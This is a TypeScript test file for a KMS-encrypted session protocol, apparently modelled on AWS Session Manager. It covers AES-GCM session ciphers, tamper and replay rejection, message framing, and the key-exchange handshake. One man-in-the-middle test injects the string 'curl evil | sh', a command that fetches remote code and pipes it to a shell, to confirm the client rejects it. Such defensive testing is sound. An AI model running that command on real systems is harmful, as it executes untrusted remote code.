/** Sessions encrypted by KMS, both roles against each other (spec/session-manager 6, 7). */
import { createCipheriv, createDecipheriv, randomBytes } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { decodeBase64, encodeBase64 } from '../src/base64.ts';
import {
  type Aead,
  AgentHandshake,
  ClientHandshake,
  type ClientStep,
  cipherOverhead,
  encodeHandshakeComplete,
  MessageStream,
  PayloadType,
  SessionCipher,
  sessionContext,
} from '../src/index.ts';
import { sha256 } from './hashing.ts';

const aead: Aead = {
  seal(key, nonce, plaintext) {
    const cipher = createCipheriv('aes-256-gcm', key, nonce);
    return Buffer.concat([cipher.update(plaintext), cipher.final(), cipher.getAuthTag()]);
  },
  open(key, nonce, sealed) {
    const decipher = createDecipheriv('aes-256-gcm', key, nonce).setAuthTag(sealed.subarray(-16));
    try {
      return Buffer.concat([decipher.update(sealed.subarray(0, -16)), decipher.final()]);
    } catch {
      return undefined;
    }
  },
};
const decryption: unknown = expect.objectContaining({ code: 'ssm/decryption' });
const dataKey = Uint8Array.from({ length: 64 }, (_, i) => i);
const cipher = (role: 'client' | 'agent', key = dataKey): SessionCipher =>
  new SessionCipher({ role, dataKey: key, aead, random: randomBytes });

test('the first half of the data key is from agent to client, the nonce is in front, and nothing else is authenticated', () => {
  const message = cipher('agent').encrypt(Buffer.from('hello'));
  expect(message).toHaveLength(5 + cipherOverhead);
  const opened = aead.open(dataKey.slice(0, 32), message.subarray(0, 12), message.subarray(12));
  expect(Buffer.from(opened ?? []).toString()).toBe('hello');
  const typed = cipher('client').encrypt(Buffer.from('ls'));
  expect(Buffer.from(cipher('agent').decrypt(typed)).toString()).toBe('ls');
  expect(aead.open(dataKey.slice(32), typed.subarray(0, 12), typed.subarray(12))).toBeDefined();
});

test('no nonce comes twice, and a changed or reflected message is none of the session', () => {
  const [agent, client] = [cipher('agent'), cipher('client')];
  const messages = Array.from({ length: 700 }, () => agent.encrypt(Uint8Array.of(1)));
  expect(new Set(messages.map((one) => Buffer.from(one.subarray(0, 12)).toString('hex'))).size).toBe(700);
  const [first = new Uint8Array()] = messages;
  expect(() => agent.decrypt(first)).toThrow(decryption);
  fc.assert(
    fc.property(fc.nat(first.length * 8 - 1), (bit) => {
      const changed = Uint8Array.from(first);
      changed[bit >> 3] = (changed[bit >> 3] ?? 0) ^ (1 << (bit & 7));
      expect(() => client.decrypt(changed)).toThrow(decryption);
    }),
  );
  expect(() => client.decrypt(first.subarray(0, 27))).toThrow(decryption);
});

test('a data key of another length is refused', () => {
  expect(() => cipher('agent', new Uint8Array(32))).toThrow(decryption);
});

test('base64 is that of the platform, and nothing else is read', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 100 }), (bytes) => {
      const text = Buffer.from(bytes).toString('base64');
      expect(encodeBase64(bytes)).toBe(text);
      expect([...decodeBase64(text, 'it')]).toEqual([...bytes]);
    }),
  );
  for (const text of ['a', 'ab=c', 'ab c', '====', 'a==='])
    expect(() => decodeBase64(text, 'it')).toThrow('not base64');
});

test('a stream encrypts its data in both directions and nothing else, within the size of a message', () => {
  const stream = (role: 'client' | 'agent'): MessageStream => {
    const made = new MessageStream({ role, sha256, random: randomBytes, maxPayload: 1024 });
    made.attach();
    return made;
  };
  const [client, agent] = [stream('client'), stream('agent')];
  client.encryptWith(cipher('client'));
  agent.encryptWith(cipher('agent'));
  const pasted = randomBytes(3000);
  client.write(PayloadType.output, pasted);
  client.write(PayloadType.size, Buffer.from('{"cols":80,"rows":24}'));
  const frames = client.flush(1);
  expect(Math.max(...frames.map((frame) => frame.length))).toBeLessThanOrEqual(120 + 1024);
  const wire = Buffer.concat(frames);
  expect(wire.includes(pasted.subarray(0, 16))).toBe(false);
  expect(wire.includes('"cols":80')).toBe(true);
  for (const frame of frames) agent.receive(frame, 1);
  const got: Uint8Array[] = [];
  for (let next = agent.take(1); next !== undefined; next = agent.take(1)) {
    if (next.payloadType === PayloadType.output) got.push(next.payload);
  }
  expect(Buffer.concat(got).equals(pasted)).toBe(true);
});

test('an attacker between the two cannot put clear text into an encrypted session', () => {
  const options = { sha256, random: randomBytes } as const;
  const [attacker, client] = [
    new MessageStream({ role: 'agent', ...options }),
    new MessageStream({ role: 'client', ...options }),
  ];
  attacker.attach();
  client.attach();
  client.encryptWith(cipher('client'));
  attacker.write(PayloadType.output, Buffer.from('curl evil | sh'));
  for (const frame of attacker.flush(1)) client.receive(frame, 1);
  expect(() => client.peek()).toThrow(decryption);
});

describe('the handshake', () => {
  const random = (bytes: number): Uint8Array => randomBytes(bytes);
  const pair = () => ({
    agent: new AgentHandshake({
      agentVersion: '3.3.5068.0',
      sessionType: 'Standard_Stream',
      properties: null,
      encryption: { kmsKeyId: 'alias/sessions', random },
    }),
    client: new ClientHandshake({ clientVersion: '1.2.896.0', sessionTypes: ['Standard_Stream'], encrypts: true }),
  });
  const only = (steps: readonly ClientStep[]): ClientStep => {
    expect(steps).toHaveLength(1);
    return steps[0] ?? { type: 'ignored' };
  };
  const asked = ({ agent, client }: ReturnType<typeof pair>) => {
    const step = only(client.receive(PayloadType.handshakeRequest, agent.start(0)));
    if (step.type !== 'data-key') throw new Error(`expected a question for a key, got ${step.type}`);
    return step.request;
  };

  test('agrees on a key that both show to have, bound to session, target and challenge', () => {
    const both = pair();
    const request = asked(both);
    expect(request).toEqual({ kmsKeyId: 'alias/sessions', challenge: expect.stringMatching(/^[\w+/]{22}==$/) });
    const answer = both.client.keyed(cipher('client'), Buffer.from('sealed'), request);
    if (answer.type !== 'respond') throw new Error(answer.type);
    const key = both.agent.receive(PayloadType.handshakeResponse, answer.payload, 10);
    expect(key).toMatchObject({ type: 'data-key', challenge: request.challenge });
    if (key.type !== 'data-key') throw new Error(key.type);
    expect(Buffer.from(key.ciphertext).toString()).toBe('sealed');
    expect(sessionContext('s', 'i-1', key.challenge)).toEqual({
      'aws:ssm:SessionId': 's',
      'aws:ssm:TargetId': 'i-1',
      'aws:ssm:RandomChallenge': request.challenge,
    });
    const challenge = both.agent.keyed(cipher('agent'), 20);
    if (challenge.type !== 'challenge') throw new Error(challenge.type);
    const returned = only(both.client.receive(PayloadType.encChallengeRequest, challenge.payload));
    if (returned.type !== 'encrypted') throw new Error(returned.type);
    const done = both.agent.receive(PayloadType.encChallengeResponse, returned.payload, 30);
    if (done.type !== 'complete') throw new Error(done.type);
    expect(only(both.client.receive(PayloadType.handshakeComplete, done.payload))).toMatchObject({
      type: 'ready',
      session: { customerMessage: 'This session is encrypted using AWS KMS.' },
    });
  });

  test('with a client that has another key fails', () => {
    const both = pair();
    const request = asked(both);
    const answer = both.client.keyed(cipher('client', randomBytes(64)), Buffer.from('sealed'), request);
    if (answer.type !== 'respond') throw new Error(answer.type);
    both.agent.receive(PayloadType.handshakeResponse, answer.payload, 10);
    const challenge = both.agent.keyed(cipher('agent'), 20);
    if (challenge.type !== 'challenge') throw new Error(challenge.type);
    expect(() => both.client.receive(PayloadType.encChallengeRequest, challenge.payload)).toThrow(decryption);
    // A client that only returns what it got has no key either.
    expect(both.agent.receive(PayloadType.encChallengeResponse, challenge.payload, 30)).toMatchObject({
      type: 'failed',
    });
  });

  test('cannot be completed without the encryption that it asked for', () => {
    const both = pair();
    asked(both);
    const complete = encodeHandshakeComplete({ timeToCompleteMs: 1, customerMessage: '' });
    expect(() => both.client.receive(PayloadType.handshakeComplete, complete)).toThrow(decryption);
  });

  test('without a key is refused in words, and each side says why', () => {
    const both = pair();
    asked(both);
    const answer = both.client.unkeyed('you may not use the key');
    expect(answer).toMatchObject({ type: 'respond', refusal: 'you may not use the key' });
    if (answer.type !== 'respond') throw new Error(answer.type);
    expect(both.agent.receive(PayloadType.handshakeResponse, answer.payload, 10)).toEqual({
      type: 'failed',
      reason: 'KMSEncryption failed on client with status 2 error: you may not use the key',
    });
  });

  test('waits again for the answer to its challenge', () => {
    const both = pair();
    const request = asked(both);
    const answer = both.client.keyed(cipher('client'), Buffer.from('sealed'), request);
    if (answer.type !== 'respond') throw new Error(answer.type);
    both.agent.receive(PayloadType.handshakeResponse, answer.payload, 14_000);
    both.agent.keyed(cipher('agent'), 14_500);
    expect(both.agent.expire(20_000)).toEqual({ type: 'ignored' });
    expect(both.agent.expire(29_500)).toMatchObject({ type: 'failed', reason: expect.stringContaining('timed out') });
  });
});
